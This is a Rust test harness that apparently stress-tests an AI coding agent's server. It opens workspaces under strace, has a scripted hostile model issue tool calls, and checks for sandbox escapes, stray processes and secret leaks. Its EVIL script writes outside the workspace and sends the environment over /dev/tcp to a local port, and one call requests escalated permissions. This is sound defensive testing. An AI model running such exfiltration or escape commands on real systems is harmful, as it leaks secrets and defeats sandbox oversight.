//! Workspaces that try to give orders, opened under strace.

mod fixtures;
mod trace;

use std::fs;
use std::io::Write;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use clap::Args;
use serde_json::{Value, json};

use crate::call::{Class, Input, ModelCallSpec};
use crate::host::{HostFixture, HostLayout};
use crate::model::HostileModel;
use crate::secrets::Secrets;
use crate::server::AdversaryServer;
use fixtures::{Commands, Fixture};
use trace::{ExpectedTrace, TraceReport};

/// How long a turn may take under strace.
const TURN_TIMEOUT: Duration = Duration::from_secs(60);

/// Tries to leave the workspace in every way it can.
const EVIL: &str = "#!/bin/sh\n\
    echo pwned > {root}/outside/pwned\n\
    env > {root}/granted/env\n\
    bash -c 'env > /dev/tcp/127.0.0.1/{port}'\n\
    exit 1\n";

#[derive(Args)]
pub struct WorkspacesArgs {
    /// The program under test.
    #[arg(long)]
    raddle: PathBuf,
    /// Only those with this in their names.
    #[arg(long, default_value = "")]
    only: String,
    /// How many are opened at a time.
    #[arg(long, default_value_t = 3)]
    lanes: usize,
}

impl WorkspacesArgs {
    pub fn run(&self) -> Result<bool> {
        let begun = Instant::now();
        let raddle = fs::canonicalize(&self.raddle)?;
        // What the fence is worth is found out by trying to break out of it, and that is no part of this.
        let measured = measure(&raddle)?;
        let chosen: Vec<_> = fixtures::all()
            .filter(|it| it.name.contains(&self.only))
            .collect();
        let waiting = Mutex::new(chosen.iter());
        let opened = Mutex::new(Vec::new());
        let lane = || -> Result<()> {
            loop {
                let next = waiting.lock().map(|mut it| it.next());
                let Ok(Some(fixture)) = next else {
                    return Ok(());
                };
                let seen = open(fixture, &raddle, &measured)
                    .with_context(|| format!("the workspace {}", fixture.name))?;
                if let Ok(mut opened) = opened.lock() {
                    opened.push((fixture.name, seen));
                }
            }
        };
        std::thread::scope(|scope| {
            let lanes: Vec<_> = (0..self.lanes.max(1)).map(|_| scope.spawn(lane)).collect();
            lanes
                .into_iter()
                .try_for_each(|it| it.join().unwrap_or_else(|_| bail!("a lane panicked")))
        })?;
        let opened = opened.into_inner().unwrap_or_default();
        ensure!(
            opened.len() == chosen.len(),
            "not every workspace was opened"
        );
        Ok(tell(&opened, begun.elapsed()))
    }
}

fn tell(opened: &[(&str, TraceReport)], took: Duration) -> bool {
    let sum = |count: fn(&TraceReport) -> usize| {
        opened.iter().map(|(_, seen)| count(seen)).sum::<usize>()
    };
    for (name, seen) in opened {
        for wrong in &seen.wrongs {
            println!("WRONG {name}: {wrong}");
        }
    }
    let wrongs = sum(|it| it.wrongs.len());
    println!(
        "figure: {} workspaces in {:.1} s: {} programs started, {} of them inside the fence and {} there by git \
         because the repository says so; {} connections; {wrongs} wrongs",
        opened.len(),
        took.as_secs_f64(),
        sum(|it| it.started),
        sum(|it| it.started_inside),
        sum(|it| it.by_git),
        sum(|it| it.connected),
    );
    if sum(|it| it.by_git) == 0 {
        println!("WRONG git started nothing of what repositories name, so the traps are not set");
        return false;
    }
    wrongs == 0
}

/// What the server keeps about the fence, measured once.
fn measure(raddle: &Path) -> Result<Vec<u8>> {
    let home = tempfile::tempdir()?;
    let status = Command::new(raddle)
        .arg("doctor")
        .env("RADDLE_HOME", home.path())
        .stdout(std::process::Stdio::null())
        .status()?;
    ensure!(
        status.success(),
        "commands cannot be fenced here: see `raddle doctor`"
    );
    fs::read(home.path().join("fence")).context("what was measured is not kept")
}

fn open(fixture: &Fixture, raddle: &Path, measured: &[u8]) -> Result<TraceReport> {
    let secrets = Secrets::new(fixture.name.len() as u64 ^ 0x77);
    let model = HostileModel::open(secrets.clone())?;
    let config = model.config("adversary");
    let mut ground = HostFixture::new(&secrets, &config, |stage| lay(fixture, stage))?;
    let stage = ground.layout.clone();
    fs::write(stage.home().join("fence"), measured)?;
    let traced = stage.root.join("trace");
    let first = fixture
        .first_in_path()
        .map(|it| stage.workspace().join(it).display().to_string());
    let usual = "/usr/local/bin:/usr/bin:/bin";
    let path = match &first {
        Some(first) => format!("{first}:{usual}"),
        None => usual.to_owned(),
    };
    let mut command = Command::new("strace");
    command
        .args([
            "-f",
            "-qq",
            "--seccomp-bpf",
            "--pidns-translation",
            "-s",
            "512",
        ])
        .args([
            "-e",
            "trace=execve,execveat,connect,clone,clone3,fork,vfork",
            "-o",
        ])
        .arg(&traced)
        .arg(raddle)
        .arg("app-server")
        .env("RADDLE_HOME", stage.home())
        .env("HOME", stage.user())
        .env("PATH", path)
        .env("SHELL", "/bin/bash")
        .envs(secrets.environment())
        .current_dir(stage.workspace());
    let mut server = AdversaryServer::start(command, &stage.root.join("server.stderr"))?;
    session(&mut server, &model, &stage, fixture.commands)?;
    server.end()?;

    let expected = ExpectedTrace {
        raddle: &raddle.display().to_string(),
        model: model.port(),
        root: &stage.root.display().to_string(),
        by_git: fixture.commands == Commands::RunByGit,
        first: first.as_deref(),
    };
    let mut seen = trace::judge(&fs::read_to_string(&traced)?, &expected);
    ensure!(
        seen.started_inside > 0 || fixture.commands == Commands::Refused,
        "nothing was run inside the fence, so nothing was seen"
    );
    if let Some(noticed) = ground.noticed()? {
        seen.wrongs.push(noticed);
    }
    let left = ground.left()?;
    seen.wrongs
        .extend(left.iter().map(|it| format!("{} was left", it.display())));
    seen.wrongs.extend(model.leaks());
    let key = format!("Bearer {}", secrets.key());
    if model.key().as_deref() != Some(&key) {
        seen.wrongs
            .push("the model was not sent its key".to_owned());
    }
    Ok(seen)
}

/// Makes the workspace what the fixture says.
fn lay(fixture: &Fixture, stage: &HostLayout) -> Result<()> {
    let workspace = stage.workspace();
    let evil = workspace.join("evil.sh");
    let filled = |text: &str| {
        text.replace("{evil}", &evil.display().to_string())
            .replace("{port}", &stage.port.to_string())
            .replace("{root}", &stage.root.display().to_string())
    };
    let put = |path: &Path, text: &str, adds: bool| -> Result<()> {
        if let Some(folder) = path.parent() {
            fs::create_dir_all(folder)?;
        }
        if let Some(target) = text.strip_prefix("-> ") {
            return Ok(symlink(target, path)?);
        }
        let mut file = fs::File::options()
            .create(true)
            .write(!adds)
            .append(adds)
            .truncate(!adds)
            .open(path)?;
        file.write_all(filled(text).as_bytes())?;
        if text.starts_with("#!") {
            file.set_permissions(fs::Permissions::from_mode(0o755))?;
        }
        Ok(())
    };
    put(&evil, EVIL, false)?;
    for (path, text) in fixture.files {
        let (path, adds) = match path.strip_prefix('+') {
            Some(path) => (path, true),
            None => (*path, false),
        };
        let at = workspace.join(path);
        // What a workspace has by itself makes way.
        let top = workspace.join(path.split('/').next().unwrap_or(path));
        let is_in_the_way = if at == top {
            at.is_dir()
        } else {
            top.is_symlink()
        };
        if is_in_the_way {
            fs::remove_dir_all(&at)?;
        }
        // An empty file in place of a folder means that it is gone.
        if text.is_empty() && path == ".git" {
            continue;
        }
        put(&at, text, adds).with_context(|| format!("cannot make {path}"))?;
    }
    Ok(())
}

/// What anyone does who opens a folder: looks around, has a model work there, and asks git.
fn session(
    server: &mut AdversaryServer,
    model: &HostileModel,
    stage: &HostLayout,
    commands: Commands,
) -> Result<()> {
    let workspace = stage.workspace();
    let cwd = json!(workspace);
    for (method, params) in [
        ("config/read", json!({"cwd": cwd, "includeLayers": true})),
        ("configRequirements/read", json!({})),
        ("skills/list", json!({"cwds": [cwd]})),
        ("thread/list", json!({"cwd": cwd})),
        ("model/list", json!({})),
        ("fs/readDirectory", json!({"path": cwd})),
        ("fuzzyFileSearch", json!({"query": "evil", "roots": [cwd]})),
    ] {
        server.call(method, &params)?;
    }
    let started = server.call(
        "thread/start",
        &json!({"cwd": cwd, "approvalPolicy": "on-request", "sandbox": "workspace-write"}),
    )?;
    let thread = started["thread"]["id"]
        .as_str()
        .context("a thread")?
        .to_owned();
    let said = model.plan(1, calls(stage));
    let input = json!([{"type": "text", "text": said}]);
    server.ask("turn/start", &json!({"threadId": thread, "input": input}))?;
    let asked = ends(server, &thread)?;
    ensure!(asked == 1, "the client was asked {asked} times, not once");
    let target = json!({"type": "uncommittedChanges"});
    server.ask(
        "review/start",
        &json!({"threadId": thread, "target": target, "delivery": "inline"}),
    )?;
    let asked = ends(server, &thread)?;
    ensure!(asked == 0, "a review asked the client");
    let writable = json!({"type": "workspaceWrite", "writableRoots": [], "networkAccess": false});
    for words in [vec!["git", "status"], vec!["git", "diff"], vec!["ls"]] {
        let params = json!({"command": words, "cwd": cwd, "sandboxPolicy": writable});
        let ran = server.call("command/exec", &params);
        if commands == Commands::Refused {
            let why = ran.err().context("a command ran where no fence holds")?;
            ensure!(why.to_string().contains("sandbox_unavailable"), "{why}");
        } else {
            ran?;
        }
    }
    server.call(
        "thread/read",
        &json!({"threadId": thread, "includeTurns": true}),
    )?;
    Ok(())
}

/// Calls of a model that means well; the last one goes beyond the fence, and the workspace has no say in that.
fn calls(stage: &HostLayout) -> Vec<ModelCallSpec> {
    let beyond = format!("touch {}", stage.granted().join("beyond").display());
    let calls = [
        ("exec_command", json!({"cmd": "ls"})),
        ("exec_command", json!({"cmd": "git status"})),
        ("exec_command", json!({"cmd": "git diff | cat"})),
        ("exec_command", json!({"cmd": "cat src/letters.txt"})),
        ("read_file", json!({"path": "src/letters.txt"})),
        ("list_files", json!({"path": "."})),
        ("search_files", json!({"pattern": "gamma", "path": "."})),
        (
            "write_file",
            json!({"path": "src/new.txt", "content": "x\n"}),
        ),
        (
            "exec_command",
            json!({"cmd": beyond, "sandbox_permissions": "require_escalated"}),
        ),
    ];
    let calls = calls.iter().enumerate();
    calls
        .map(|(number, (name, arguments))| {
            let input = Input::Arguments(Value::to_string(arguments));
            ModelCallSpec::new(number, "harmless", Class::Work, name, input)
        })
        .collect()
}

/// Waits for the end of a turn, says no to everything, and gives how often it was asked.
fn ends(server: &mut AdversaryServer, thread: &str) -> Result<usize> {
    let end = Instant::now() + TURN_TIMEOUT;
    let mut asked = 0;
    loop {
        let message = server.next(end)?.context("the turn did not end")?;
        ensure!(
            message.get("error").is_none(),
            "a request was refused: {message}"
        );
        let params = &message["params"];
        if message.get("id").is_some() && message.get("method").is_some() {
            asked += 1;
            server.send(&json!({"id": message["id"], "result": {"decision": "decline"}}))?;
        }
        if message["method"] == "turn/completed" && params["threadId"] == thread {
            ensure!(
                params["turn"]["status"] == "completed",
                "the turn failed: {params}"
            );
            return Ok(asked);
        }
    }
}
